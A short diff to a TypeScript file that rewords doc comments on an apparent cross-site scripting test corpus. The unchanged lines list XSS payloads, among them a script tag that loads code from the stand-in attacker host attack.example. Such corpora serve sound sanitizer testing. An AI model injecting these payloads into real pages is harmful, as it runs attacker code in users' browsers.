@@ -1,10 +1,10 @@
-/** An attempt to make a page run or load something. */
+/** Markup of a cross-site scripting (XSS) attack. */
 export interface Attack {
   name: string
   html: string
 }
 
-/** Markup that tries to run script, load a resource or navigate. `attack.example` is the attacker's host. */
+/** Attacks that try to run a script, load a resource or navigate. `attack.example` is the attacker's host. */
 export const xssCorpus: Attack[] = [
   { name: 'a script', html: '<script>alert(1)</script>' },
   { name: 'a script from elsewhere', html: '<script src="//attack.example/x.js"></script>' },
